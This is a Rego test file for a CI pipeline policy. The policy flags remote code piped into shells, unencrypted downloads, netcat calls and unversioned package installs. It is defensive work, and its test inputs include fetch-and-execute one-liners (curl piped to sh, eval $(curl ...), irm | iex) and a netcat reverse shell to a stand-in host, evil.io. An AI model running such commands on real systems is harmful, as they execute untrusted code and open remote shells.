package policies.pipe.no_unverified_remote_code_test

import data.policies.lib.workflow_units_test as units
import data.policies.pipe.no_unverified_remote_code as policy

_command(words, given) := object.union(
	object.union(units.run(0, [concat(" ", words)]).commands[0], {"words": words}),
	given,
)

_step(commands) := units.step(0, {"kind": "run", "commands": commands})

_found(rule, job, strict) := {found.defect | some found in violations} if {
	rule == "deny"
	violations := policy.deny with input as _unit(job) with data.params as {"PIPE-009": {"judge_versions": strict}}
}

_found(rule, job, strict) := {found.defect | some found in violations} if {
	rule == "undecided"
	violations := policy.undecided with input as _unit(job) with data.params as {"PIPE-009": {"judge_versions": strict}}
}

_unit(job) := object.union(units.unit([job], []), {"views": {"deploy_jobs": []}})

_denied(steps) := _found("deny", units.job("a", steps, {}), false)

_piping(first, second) := [_step([
	_command(split(first, " "), {"operator": "|", "next": 1}),
	_command(split(second, " "), {"operator": null}),
])]

test_a_download_piped_into_a_shell_fails if {
	every second in ["sh", "bash -s -- --yes", "python3 -", "node", "bash -x"] {
		_denied(_piping("curl -sSf https://x.io/i.sh", second)) == {"remote/curl -sSf https://x.io/i.sh"}
	}
}

test_a_download_that_is_read_is_fine if {
	every second in ["jq .version", "tar x", "gpg --import", "python3 -m json.tool", "bash script.sh", "perl -pe s/a/b/"] {
		_denied(_piping("curl -sSf https://x.io/i", second)) == set()
	}
}

test_substitutions_that_run_fail if {
	_denied([_step([_command(["bash", "<(curl -s https://x.io)"], {})])]) == {"remote/bash <(curl -s https://x.io)"}
	_denied([_step([_command(["sh", "-c", "$(curl -s https://x.io)"], {})])]) == {"remote/sh -c $(curl -s https://x.io)"}
	_denied([_step([_command(["eval", "$(curl -s https://x.io)"], {})])]) == {"remote/eval $(curl -s https://x.io)"}
	_denied([_step([_command(["source", "<(curl -s https://x.io)"], {})])]) == {"remote/source <(curl -s https://x.io)"}
	_denied([_step([_command(["echo", "$(curl -s https://x.io)"], {})])]) == set()
}

test_powershell_that_runs_downloads_fails if {
	_denied([units.run(0, ["irm https://get.scoop.sh | iex"])]) == {"remote/irm https://get.scoop.sh | iex"}
}

test_an_address_that_only_a_run_knows_is_unknown if {
	steps := _piping("curl ${{_inputs.url_}}", "sh")
	_denied(steps) == set()
	_found("undecided", units.job("a", steps, {}), false) == {"remote/curl ${{_inputs.url_}}"}
}

test_an_address_without_encryption_fails if {
	_denied([units.run(0, ["wget http://example.com/a.tgz"])]) == {"plain/http://example.com/a.tgz"}
	_denied([units.run(0, ["git clone http://example.com/a.git"])]) == {"plain/http://example.com/a.git"}
	_denied([units.use(0, "a/b", {"registry": "http://example.com"})]) == {"plain/http://example.com"}
}

test_near_addresses_need_no_encryption if {
	every host in ["localhost:8080/x", "127.0.0.1/x", "redis:6379/", "192.168.1.4/x", "app.local/x", "172.17.0.1/x"] {
		_denied([units.run(0, [sprintf("curl http://%s", [host])])]) == set()
	}
}

test_netcat_that_runs_or_calls_out_fails if {
	_denied([units.run(0, ["nc -e /bin/sh evil.io 4444"])]) == {"netcat/nc -e /bin/sh evil.io 4444"}
	_denied([units.run(0, ["nc 203.0.113.9 4444"])]) == {"netcat/nc 203.0.113.9 4444"}
	_denied([units.run(0, ["nc -z localhost 5432"])]) == set()
}

_building(line) := units.job("a", [units.run(0, ["npm run build", line])], {})

test_installs_without_version_fail_in_strict_builds if {
	_found("deny", _building("npm install -g serverless"), false) == set()
	_found("deny", _building("npm install -g serverless"), true) == {"unversioned/serverless"}
	_found("deny", _building("pip install boto3 awscli==1.2"), true) == {"unversioned/boto3"}
}

test_versions_lockfiles_and_files_are_fine if {
	every line in [
		"npm install", "npm ci", "npm install -g serverless@3.38.0", "pip install -r requirements.txt",
		"pip install awscli==1.2", "pip install .", "pip install dist/a.whl",
	] {
		_found("deny", _building(line), true) == set()
	}
}
